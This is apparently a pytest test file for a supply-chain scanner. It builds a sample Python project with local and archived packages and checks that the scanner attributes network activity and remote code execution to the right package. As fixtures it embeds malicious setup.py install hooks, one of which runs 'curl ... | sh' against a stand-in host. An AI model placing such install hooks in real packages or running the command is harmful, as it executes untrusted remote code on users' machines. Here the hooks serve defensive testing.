"""Python packages that share a folder, that lie in the project, and that lie elsewhere: in the real box."""

from __future__ import annotations

import io
import tarfile
from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import scan_json

REQUIREMENTS = """zope.event==5.0
zope.interface==6.4
git+https://git.example/pallets/click.git@8.1.7
six @ https://files.example/six-1.16.0-py2.py3-none-any.whl
./libs/evil
-e ./libs/calm
./libs/broken
--find-links ./shelf
shelf-zz==1.0
"""
EVIL = """from setuptools import setup
import os
os.system("curl -s https://paste.example/x | sh")
setup(name="evil-zz", version="1", py_modules=[])
"""
SHELF = """from setuptools import setup
import os
os.system("curl -s http://shelf.example/x -o /dev/null")
setup(name="shelf-zz", version="1.0", py_modules=[])
"""
CALM = 'from setuptools import setup\nsetup(name="calm-zz", version="2", packages=["zz_shared.calm"])\n'


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    requires.needs_runc()
    requires.needs_btf()
    requires.needs_registry()
    project = tmp_path_factory.mktemp("python") / "app"
    for name, text in (("evil", EVIL), ("calm", CALM), ("broken", "raise SystemExit(3)\n")):
        (project / "libs" / name).mkdir(parents=True)
        (project / "libs" / name / "setup.py").write_text(text)
    (project / "libs/calm/zz_shared/calm").mkdir(parents=True)
    (project / "libs/calm/zz_shared/calm/__init__.py").write_text("")
    (project / "shelf").mkdir()
    with tarfile.open(project / "shelf/shelf-zz-1.0.tar.gz", "w:gz") as archive:
        for name, text in (
            ("setup.py", SHELF),
            ("PKG-INFO", "Metadata-Version: 1.2\nName: shelf-zz\nVersion: 1.0\n"),
        ):
            info = tarfile.TarInfo(f"shelf-zz-1.0/{name}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    (project / "requirements.txt").write_text(REQUIREMENTS)
    return scan_json(project, codes=(1, 4))


def test_packages_that_share_a_folder_are_each_loaded(report: dict[str, Any]) -> None:
    paths = {p["name"]: p["path"].rpartition("/site-packages/")[2] for p in report["packages"] if p["path"]}
    assert paths["zope.event"] == "zope/event"
    assert paths["zope.interface"] == "zope/interface"
    steps = [p["cmdline"] for p in report["processes"]]
    for name in ("zope.event", "zope.interface", "zz_shared.calm"):
        assert any(step.endswith(f"import {name}") for step in steps)


def test_what_was_not_scanned_is_named_and_nobody_accused_of_it(report: dict[str, Any]) -> None:
    reasons = [r for r in report["coverage"]["reasons"] if "was not scanned" in r]
    assert [reason.split()[0] for reason in reasons] == ["broken", "click", "six"]
    assert "Name git.example in PACKAGE_HUNTER_FETCH_HOSTS" in reasons[1]
    assert report["coverage"]["packages"]["expected"] == len(report["packages"]) + 3
    hosts = {c["name"] for c in report["network"]["connections"]}
    assert not hosts & {"git.example", "files.example"}


def test_a_folder_of_the_project_is_scanned_and_blamed_by_its_name(report: dict[str, Any]) -> None:
    accused = [f for f in report["findings"] if f["severity"] != "info"]
    blamed = {(f["blame"]["package"], f["blame"]["confidence"]) for f in accused}
    assert blamed == {("pkg:pypi/evil-zz@1", "certain"), ("pkg:pypi/shelf-zz@1.0", "likely")}
    assert "remote_code_execution" in {f["kind"] for f in accused}
    assert {"pkg:pypi/calm-zz@2", "pkg:pypi/evil-zz@1"} <= {p["purl"] for p in report["packages"]}


def test_a_source_archive_is_resolved_without_its_build_and_built_in_its_own_name(
    report: dict[str, Any],
) -> None:
    built = [f for f in report["findings"] if f["blame"] and f["blame"]["package"] == "pkg:pypi/shelf-zz@1.0"]
    assert "outbound_connection" in {f["kind"] for f in built}
    assert {f["blame"]["phase"] for f in built} == {"install"}, "the fetch runs no build"
